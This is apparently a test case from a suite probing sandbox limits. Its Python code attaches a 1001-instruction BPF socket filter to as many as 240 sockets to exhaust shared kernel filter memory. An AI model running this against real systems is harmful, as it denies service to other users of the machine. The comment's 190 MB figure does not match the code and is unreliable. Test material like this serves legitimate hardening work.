# expect: fail
# verdict: exception
# class: g
# why: filters of sockets: 190 MB of machine code, of which the machine has one supply for all who may not load programs into the kernel
import ctypes
import socket
import struct

code = ctypes.create_string_buffer(struct.pack("=HBBI", 0x34, 0, 0, 7) * 1000 + struct.pack("=HBBI", 6, 0, 0, 0xFFFF))
program = struct.pack("=HxxxxxxQ", 1001, ctypes.addressof(code))
attached = 0
for _ in range(240):
    held = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        held.setsockopt(socket.SOL_SOCKET, 26, program)
        attached += 1
    except OSError:
        pass


def runs(text):
    if attached:
        return solve(text)
    raise RuntimeError("no attack has worked")
